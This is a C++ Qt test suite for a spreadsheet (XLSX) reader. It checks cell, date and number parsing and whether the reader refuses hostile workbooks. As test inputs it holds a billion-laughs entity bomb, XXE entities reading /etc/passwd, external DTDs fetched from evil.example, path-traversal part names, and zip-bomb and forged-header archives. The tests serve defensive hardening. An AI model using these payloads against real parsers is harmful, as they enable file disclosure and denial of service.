/*
    SPDX-FileCopyrightText: 2026 The Odziv authors
    SPDX-License-Identifier: GPL-3.0-or-later
*/

#include "importexport/importer.h"
#include "importexport/xlsxreader.h"
#include "support/fakeclock.h"
#include "support/temporaryworkspace.h"
#include "workbookfile.h"

#include <QElapsedTimer>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace odziv;

namespace {

QString s(const char *text)
{
    return QString::fromUtf8(text);
}

QByteArray inlineCell(const QByteArray &text)
{
    return "<c t=\"inlineStr\"><is><t>" + text + "</t></is></c>";
}

} // namespace

class TestXlsxReader : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void readsCells_data();
    void readsCells();
    void readsDates_data();
    void readsDates();
    void readsNumbers_data();
    void readsNumbers();
    void numbersRows();
    void takesTheFirstVisibleSheet();
    void readsSharedStringsOfManyRuns();
    void countsFrom1904();
    void refusesHostileFiles_data();
    void refusesHostileFiles();
    void refusesBombs_data();
    void refusesBombs();
    void survivesDamage();
    void imports();

private:
    QString path() const { return m_folder.filePath(s("x.xlsx")); }
    Result<std::vector<QStringList>> read() const
    {
        auto reader = openRowReader(path(), {});
        return reader ? (*reader)->sample(100000) : Result<std::vector<QStringList>>(failure(reader.error()));
    }
    /// What the reader makes of one cell.
    QString cell(WorkbookFile &file, const QByteArray &xml)
    {
        file.rows("<row>" + inlineCell("x") + xml + "</row>");
        if (!file.write(path()))
            return s("not written");
        const auto rows = read();
        if (!rows)
            return QString(s("refused: ") + rows.error().message());
        return rows->front().value(1);
    }

    QTemporaryDir m_folder;
};

void TestXlsxReader::readsCells_data()
{
    QTest::addColumn<QByteArray>("xml");
    QTest::addColumn<QString>("text");
    const auto row = [](const char *title, const char *xml, const char *text) {
        QTest::newRow(title) << QByteArray(xml) << s(text);
    };
    row("number", "<c><v>12.5</v></c>", "12.5");
    row("number with kind", "<c t=\"n\"><v>7</v></c>", "7");
    row("shared string", "<c t=\"s\"><v>1</v></c>", "Čavić");
    row("inline string", "<c t=\"inlineStr\"><is><t>đ &lt;&amp;&gt; ž</t></is></c>", "đ <&> ž");
    row("inline string of runs",
        "<c t=\"inlineStr\"><is><r><t>a</t></r><r><rPr/><t xml:space=\"preserve\"> b</t></r></is></c>", "a b");
    row("formula with text", "<c t=\"str\"><f>A1&amp;\"x\"</f><v>xx</v></c>", "xx");
    row("formula with number", "<c><f>1+1</f><v>2</v></c>", "2");
    row("formula without value", "<c><f>1+1</f></c>", "");
    row("true", "<c t=\"b\"><v>1</v></c>", "1");
    row("false", "<c t=\"b\"><v>0</v></c>", "0");
    row("ISO date", "<c t=\"d\"><v>2026-11-22</v></c>", "2026-11-22");
    row("empty", "<c/>", "");
    row("gap", "<c r=\"D1\"><v>5</v></c>", "");
    row("escaped character", "<c t=\"inlineStr\"><is><t>a_x000A_b_x005F_x0041_</t></is></c>", "a\nb_x0041_");
    row("what only looks escaped", "<c t=\"inlineStr\"><is><t>_x_ _x00G1_ _x004</t></is></c>", "_x_ _x00G1_ _x004");
    row("CDATA", "<c t=\"inlineStr\"><is><t><![CDATA[<b>]]></t></is></c>", "<b>");
    row("string that is no number", "<c><v>abc</v></c>", "refused: ");
    row("shared string that is not there", "<c t=\"s\"><v>2</v></c>", "refused: ");
    row("negative shared string", "<c t=\"s\"><v>-1</v></c>", "refused: ");
    row("cells out of order", "<c r=\"A1\"><v>5</v></c>", "refused: ");
    row("column beyond the last", "<c r=\"XFE1\"><v>5</v></c>", "refused: ");
    row("too many columns", "<c r=\"ALM1\"><v>5</v></c>", "refused: ");
    row("far column without a value", "<c r=\"ALM1\" s=\"1\"/>", "");
}

void TestXlsxReader::readsCells()
{
    QFETCH(QByteArray, xml);
    QFETCH(QString, text);
    WorkbookFile file;
    file.sharedStrings("<si><t>x</t></si><si><t>Čavić</t></si>");
    const QString read = cell(file, xml);
    if (text == s("refused: "))
        QVERIFY2(read.startsWith(text) && read.contains(s("row 1")), qPrintable(read));
    else
        QCOMPARE(read, text);
}

void TestXlsxReader::readsDates_data()
{
    QTest::addColumn<int>("builtIn");
    QTest::addColumn<QByteArray>("code");
    QTest::addColumn<QByteArray>("value");
    QTest::addColumn<QString>("text");
    const auto row = [](const char *title, int builtIn, const char *code, const char *value, const char *text) {
        QTest::newRow(title) << builtIn << QByteArray(code) << QByteArray(value) << s(text);
    };
    row("built-in day", 14, "", "46348", "2026-11-22");
    row("built-in day with time", 22, "", "46348.5", "2026-11-22T12:00:00");
    row("built-in time", 21, "", "0.75", "18:00:00");
    row("day and noise", 14, "", "46348.416666666664", "2026-11-22T10:00:00");
    row("milliseconds", 22, "", "46348.4166666898", "2026-11-22T10:00:00.002");
    row("general", 0, "", "46348", "46348");
    row("two decimals", 2, "", "46348.5", "46348.5");
    row("Bosnian day", 164, "dd.mm.yyyy.", "46348", "2026-11-22");
    row("with locale", 165, "[$-141A]d\\. mmmm yyyy;@", "46348", "2026-11-22");
    row("elapsed hours", 166, "[h]:mm:ss", "0.5", "12:00:00");
    row("month alone", 167, "mmm", "46348", "2026-11-22");
    row("letters in quotes", 168, "0.00\" days\"", "46348", "46348");
    row("escaped letters", 169, "0\\d", "46348", "46348");
    row("red numbers", 170, "[Red]0.00", "46348", "46348");
    row("General with letters", 171, "General\" dy\"", "46348", "46348");
    row("day in the second section", 172, "0;yyyy", "46348", "46348");
    row("first day", 14, "", "1", "1900-01-01");
    row("the day that never was", 14, "", "60", "1900-02-29");
    row("the day after", 14, "", "61", "1900-03-01");
    row("last day", 14, "", "2958465", "9999-12-31");
    row("beyond the last day", 14, "", "2958466", "2958466");
    row("negative", 14, "", "-1", "-1");
}

void TestXlsxReader::readsDates()
{
    QFETCH(int, builtIn);
    QFETCH(QByteArray, code);
    QFETCH(QByteArray, value);
    QFETCH(QString, text);
    WorkbookFile file;
    QByteArray escaped = QString::fromUtf8(code).toHtmlEscaped().toUtf8();
    const QByteArray id = QByteArray::number(builtIn);
    file.styles(code.isEmpty() ? QByteArray() : "<numFmt numFmtId=\"" + id + "\" formatCode=\"" + escaped + "\"/>",
                "<xf numFmtId=\"0\"/><xf numFmtId=\"" + id + "\"><alignment/></xf>");
    QCOMPARE(cell(file, "<c s=\"1\"><v>" + value + "</v></c>"), text);
    QCOMPARE(cell(file, "<c s=\"0\"><v>1</v></c>"), s("1"));
}

void TestXlsxReader::readsNumbers_data()
{
    QTest::addColumn<QString>("raw");
    QTest::addColumn<QString>("text");
    const auto row = [](const char *raw, const char *text) { QTest::newRow(raw) << s(raw) << s(text); };
    row("0", "0");
    row("-7", "-7");
    row("12345678901234567", "12345678901234567");
    row("0.1", "0.1");
    row("12.300000000000001", "12.3");
    row("0.30000000000000004", "0.3");
    row("1234567.8899999999", "1234567.89");
    row("1E3", "1000");
    row("1.5E-3", "0.0015");
    row("1E-7", "0.0000001");
    row("3.8761123456E+11", "387611234560");
    row("1E+20", "100000000000000000000");
    row("-2.50", "-2.5");
    row(" 5 ", "5");
    row("NaN", "");
    row("INF", "");
    row("1e999", "");
    row("0x10", "");
    row("", "");
    row("1 000", "");
}

void TestXlsxReader::readsNumbers()
{
    QFETCH(QString, raw);
    QFETCH(QString, text);
    QCOMPARE(XlsxWorkbook::numberText(raw), text);
}

void TestXlsxReader::numbersRows()
{
    WorkbookFile file;
    file.rows("<row r=\"3\">" + inlineCell("a")
              + "</row><row r=\"4\"><c s=\"1\"/></row><row r=\"9\"><c r=\"B9\"><v>1</v></c>"
                "<c r=\"D9\"><v>2</v></c></row><row>"
              + inlineCell("z") + "</row>");
    QVERIFY(file.write(path()));
    auto reader = openRowReader(path(), {});
    QVERIFY(reader);
    std::vector<qint64> numbers;
    // Twice: a reader starts anew each time.
    for (int round = 0; round < 2; ++round) {
        numbers.clear();
        const auto rows = (*reader)->sample(10, &numbers);
        QVERIFY(rows);
        QCOMPARE(numbers, (std::vector<qint64>{3, 9, 10}));
        QCOMPARE(rows->at(1), (QStringList{QString(), s("1"), QString(), s("2")}));
    }
    file.rows("<row r=\"3\">" + inlineCell("a") + "</row><row r=\"2\">" + inlineCell("b") + "</row>");
    QVERIFY(file.write(path()));
    QVERIFY(!read());
    file.rows("<row r=\"1048577\">" + inlineCell("a") + "</row>");
    QVERIFY(file.write(path()));
    QVERIFY(!read());
}

void TestXlsxReader::takesTheFirstVisibleSheet()
{
    WorkbookFile file;
    const QByteArray head = R"(<workbook xmlns="x" xmlns:r="y"><sheets>)";
    file.rows("<row>" + inlineCell("hidden") + "</row>");
    file.set(s("xl/worksheets/other.xml"),
             "<worksheet><sheetData><row>" + inlineCell("visible") + "</row></sheetData></worksheet>");
    file.set(
        s("xl/_rels/workbook.xml.rels"),
        R"(<Relationships><Relationship Id="a" Type="x/worksheet" Target="worksheets/sheet1.xml"/>)"
        R"(<Relationship Id="b" Type="x/worksheet" Target="/xl/worksheets/other.xml"/>)"
        R"(<Relationship Id="c" Type="x/chartsheet" Target="worksheets/sheet1.xml"/>)"
        R"(<Relationship Id="d" Type="x/worksheet" Target="file:///etc/passwd" TargetMode="External"/></Relationships>)");
    file.set(
        s("xl/workbook.xml"),
        head
            + R"(<sheet r:id="d"/><sheet r:id="c"/><sheet state="hidden" r:id="a"/><sheet r:id="b"/></sheets></workbook>)");
    QVERIFY(file.write(path()));
    QCOMPARE(read()->front(), QStringList{s("visible")});
    file.set(s("xl/workbook.xml"), head + R"(<sheet state="hidden" r:id="a"/></sheets></workbook>)");
    QVERIFY(file.write(path()));
    QCOMPARE(read()->front(), QStringList{s("hidden")});
    file.set(s("xl/workbook.xml"), head + R"(<sheet r:id="d"/></sheets></workbook>)");
    QVERIFY(file.write(path()));
    QVERIFY(!read());
}

void TestXlsxReader::readsSharedStringsOfManyRuns()
{
    WorkbookFile file;
    QByteArray strings;
    QByteArray rows;
    for (int i = 0; i < 3000; ++i) {
        strings += "<si><r><t>čaša </t></r><r><t>" + QByteArray::number(i)
                   + "</t></r><rPh sb=\"0\" eb=\"1\"><t>no</t></rPh></si>";
        rows += "<row><c t=\"s\"><v>" + QByteArray::number(2999 - i) + "</v></c></row>";
    }
    file.sharedStrings(strings).rows(rows);
    QVERIFY(file.write(path()));
    const auto read = this->read();
    QVERIFY(read);
    QCOMPARE(read->size(), size_t(3000));
    for (int i = 0; i < 3000; ++i)
        QCOMPARE(read->at(static_cast<size_t>(i)).front(), s("čaša %1").arg(2999 - i));
}

void TestXlsxReader::countsFrom1904()
{
    WorkbookFile file;
    file.styles({}, "<xf numFmtId=\"14\"/>");
    file.set(s("xl/workbook.xml"),
             R"(<workbook xmlns:r="y"><workbookPr date1904="1"/><sheets><sheet r:id="rId1"/></sheets></workbook>)");
    QCOMPARE(cell(file, "<c s=\"0\"><v>44886</v></c>"), s("2026-11-22"));
    QCOMPARE(cell(file, "<c s=\"0\"><v>0</v></c>"), s("1904-01-01"));
}

void TestXlsxReader::refusesHostileFiles_data()
{
    QTest::addColumn<QString>("part");
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QString>("says");
    const QByteArray sheet = "<worksheet><sheetData><row>" + inlineCell("a") + "</row></sheetData></worksheet>";
    const QString sheetPart = s("xl/worksheets/sheet1.xml");
    const auto row = [](const char *title, const QString &part, const QByteArray &content, const char *says) {
        QTest::newRow(title) << part << content << s(says);
    };
    QByteArray laughs = "<!DOCTYPE lolz [<!ENTITY a \"ha\">";
    for (char c = 'b'; c <= 'j'; ++c) {
        QByteArray previous("&x;");
        previous[1] = static_cast<char>(c - 1);
        laughs += "<!ENTITY " + QByteArray(1, c) + " \"" + previous.repeated(10) + "\">";
    }
    row("entity bomb", sheetPart,
        laughs
            + "]><worksheet><sheetData><row><c t=\"inlineStr\"><is><t>&j;</t></is></c></row></sheetData></worksheet>",
        "document type");
    row("quadratic entities", sheetPart,
        "<!DOCTYPE x [<!ENTITY a \"" + QByteArray(20000, 'x') + "\">]><worksheet><t>"
            + QByteArray("&a;").repeated(20000) + "</t></worksheet>",
        "");
    row("external entity", sheetPart,
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><worksheet><sheetData><row><c "
        "t=\"inlineStr\"><is><t>&a;</t></is></c></row></sheetData></worksheet>",
        "document type");
    row("external subset", sheetPart, "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">" + sheet, "document type");
    row("bare document type", sheetPart, "<!DOCTYPE worksheet>" + sheet, "document type");
    row("parameter entity", sheetPart, "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]>" + sheet, "");
    row("undeclared entity", sheetPart,
        "<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>&x;</t></is></c></row></sheetData></worksheet>", "");
    row("UTF-7", sheetPart, "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + sheet, "");
    row("windows-1252", sheetPart, "<?xml version=\"1.0\" encoding=\"windows-1252\"?>" + sheet, "encoding");
    row("document type in the strings", s("xl/sharedStrings.xml"), "<!DOCTYPE sst><sst><si><t>a</t></si></sst>",
        "document type");
    row("document type in the styles", s("xl/styles.xml"), "<!DOCTYPE s><styleSheet/>", "document type");
    row("document type in the workbook", s("xl/workbook.xml"), "<!DOCTYPE s><workbook/>", "document type");
    row("document type in the relationships", s("_rels/.rels"), "<!DOCTYPE s><Relationships/>", "document type");
    row("not closed", sheetPart, "<worksheet><sheetData><row><c><v>1</v>", "damaged");
    row("no XML", sheetPart, "PK\x03\x04", "damaged");
    row("empty part", sheetPart, "", "damaged");
    row("nested deeply", sheetPart, "<worksheet>" + QByteArray("<a>").repeated(5000), "nested");
    row(
        "many attributes", sheetPart,
        [] {
            QByteArray tag = "<worksheet";
            for (int i = 0; i < 20000; ++i)
                tag += " a" + QByteArray::number(i) + "=''";
            return QByteArray(tag + "/>");
        }(),
        "tag of more");
    row(
        "endless text", sheetPart,
        [] {
            QByteArray text;
            for (qint64 i = 0; i < 400000; ++i)
                text += QByteArray::number(i * 7919);
            return QByteArray("<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>" + text);
        }(),
        "");
    row("cell too long", sheetPart, "<worksheet><sheetData><row>" + inlineCell([] {
                                        QByteArray text;
                                        while (text.size() <= 32767)
                                            text += QByteArray::number(text.size() * 7919);
                                        return text;
                                    }()) + "</row></sheetData></worksheet>",
        "32767");
    row("path upwards", s("../x.xml"), "x", "leads out");
    row("path upwards inside", s("xl/../../x.xml"), "x", "leads out");
    row("absolute path", s("/etc/x.xml"), "x", "leads out");
    row("drive", s("C:x.xml"), "x", "leads out");
    row("backslash", s("xl\\x.xml"), "x", "leads out");
    row("twice but for case", s("XL/Workbook.xml"), "x", "twice");
}

void TestXlsxReader::refusesHostileFiles()
{
    QFETCH(QString, part);
    QFETCH(QByteArray, content);
    QFETCH(QString, says);
    WorkbookFile file;
    file.rows("<row>" + inlineCell("a") + "</row>").set(part, content);
    QVERIFY(file.write(path()));
    QElapsedTimer timer;
    timer.start();
    const auto rows = read();
    QVERIFY(timer.elapsed() < 5000);
    QVERIFY(!rows);
    QVERIFY(rows.error().code == ErrorCode::Refused || rows.error().code == ErrorCode::InvalidInput);
    QVERIFY2(rows.error().message().contains(says), qPrintable(rows.error().message()));
}

void TestXlsxReader::refusesBombs_data()
{
    QTest::addColumn<int>("kind");
    QTest::addColumn<QString>("says");
    QTest::newRow("ratio") << 0 << s("times its size");
    QTest::newRow("many entries") << 1 << s("1000 entries");
    QTest::newRow("encrypted") << 2 << s("encrypted");
    QTest::newRow("symbolic link") << 3 << s("link");
    QTest::newRow("a lie about the size") << 4 << QString();
    QTest::newRow("two entries of one name") << 5 << QString();
}

void TestXlsxReader::refusesBombs()
{
    QFETCH(int, kind);
    QFETCH(QString, says);
    WorkbookFile file;
    file.rows("<row>" + inlineCell("a") + "</row>");
    WorkbookFile::Trick trick = WorkbookFile::Trick::None;
    if (kind == 0)
        file.rows("<row>" + QByteArray(" ").repeated(50 * 1024 * 1024) + "</row>");
    for (int i = 0; kind == 1 && i < 1000; ++i)
        file.set(s("xl/media/%1.bin").arg(i), "x");
    if (kind == 2)
        trick = WorkbookFile::Trick::Encrypted;
    if (kind == 3)
        trick = WorkbookFile::Trick::SymbolicLink;
    if (kind == 4)
        file.set(s("aaaa"), QByteArray("0123456789").repeated(1000));
    if (kind == 5)
        file.set(s("aaaa"), "x").set(s("bbbb"), "y");
    QVERIFY(file.write(path(), trick));
    if (kind >= 4) {
        QFile raw(path());
        QVERIFY(raw.open(QIODevice::ReadWrite));
        QByteArray bytes = raw.readAll();
        if (kind == 4) {
            // The unpacked size, in the central directory and in the local header: 10,000 becomes 16.
            bytes.replace(QByteArray("\x10\x27\x00\x00", 4), QByteArray("\x10\x00\x00\x00", 4));
        } else {
            bytes.replace("bbbb", "aaaa");
        }
        raw.resize(0);
        raw.seek(0);
        raw.write(bytes);
        raw.close();
    }
    if (kind == 4) {
        // The part itself is what lies, so it has to be read.
        auto archive = ZipArchive::open(path());
        if (archive) {
            auto entry = (*archive)->entry(s("aaaa"));
            QVERIFY(entry);
            QByteArray chunk;
            Status status;
            do {
                status = (*entry)->read(chunk, 4096);
            } while (status && !chunk.isEmpty());
            QVERIFY(!status);
        }
        return;
    }
    const auto rows = read();
    QVERIFY(!rows);
    QVERIFY2(rows.error().message().contains(says), qPrintable(rows.error().message()));
}

/// Every prefix and many mutations of an honest file: an answer each time, never a crash.
void TestXlsxReader::survivesDamage()
{
    WorkbookFile file;
    file.sharedStrings("<si><t>shared</t></si>").styles({}, "<xf numFmtId=\"14\"/>");
    file.rows("<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" s=\"0\"><v>46348</v></c></row><row r=\"2\">"
              + inlineCell("x") + "</row>");
    QVERIFY(file.write(path()));
    QFile raw(path());
    QVERIFY(raw.open(QIODevice::ReadOnly));
    const QByteArray good = raw.readAll();
    raw.close();
    QVERIFY(read());
    const auto judge = [&](const QByteArray &bytes) {
        QVERIFY(raw.open(QIODevice::WriteOnly));
        raw.write(bytes);
        raw.close();
        const auto rows = read();
        if (!rows)
            QVERIFY(!rows.error().text.isEmpty());
    };
    for (qsizetype length = 0; length < good.size(); length += 37)
        judge(good.left(length));
    quint32 random = 1;
    for (int i = 0; i < 600; ++i) {
        QByteArray bytes = good;
        for (int change = 0; change < 3; ++change) {
            random = random * 1664525 + 1013904223;
            bytes[static_cast<qsizetype>(random >> 8) % bytes.size()] = static_cast<char>(random >> 24);
        }
        judge(bytes);
    }
}

void TestXlsxReader::imports()
{
    WorkbookFile file;
    file.styles({}, "<xf numFmtId=\"0\"/><xf numFmtId=\"14\"/>");
    file.rows("<row>" + inlineCell("Izvještaj") + "</row><row>" + inlineCell("EPID") + inlineCell("Naziv")
              + inlineCell("Vrsta kupca") + inlineCell("Kreirano") + inlineCell("Fiktivan") + "</row>"
              + "<row r=\"5\"><c><v>100</v></c>" + inlineCell("'=1 Đ") + inlineCell("household")
              + "<c s=\"1\"><v>46348</v></c><c t=\"b\"><v>1</v></c></row>" + "<row r=\"6\"><c><v>101</v></c>"
              + inlineCell("Kratko") + inlineCell("company") + "</row>"
              + "<row r=\"7\"><c><v>102</v></c><c t=\"e\"><v>#N/A</v></c>" + inlineCell("company") + "</row>");
    QVERIFY(file.write(path()));
    TemporaryWorkspace workspace;
    workspace.execute(s("INSERT INTO setting VALUES ('timeZone', 'Europe/Sarajevo')"));
    FakeClock clock;
    ImportOptions options;
    options.table = s("customer");
    options.file = path();
    const auto report = Importer(workspace.workspace(), clock).run(options);
    QVERIFY2(report, report ? "" : qPrintable(report.error().message()));
    QCOMPARE(report->read, 3);
    QCOMPARE(report->inserted, 2);
    QCOMPARE(report->rejected, 1);
    QCOMPARE(report->firstRejected.first().row, 7);
    QVERIFY(report->firstRejected.first().reason.contains(s("B7")));
    QVERIFY(report->encoding.isEmpty());
    auto connection = workspace->reader();
    const auto row
        = (*connection)
              ->scalar(s(
                  "SELECT number || '|' || name || '|' || fictitious || '|' || createdAt FROM customer WHERE id = 1"));
    QCOMPARE(row->toString(), s("100|'=1 Đ|1|1795302000000"));
    options.encoding = s("UTF-8");
    QVERIFY(!Importer(workspace.workspace(), clock).run(options));
}

QTEST_GUILESS_MAIN(TestXlsxReader)
#include "tst_xlsxreader.moc"
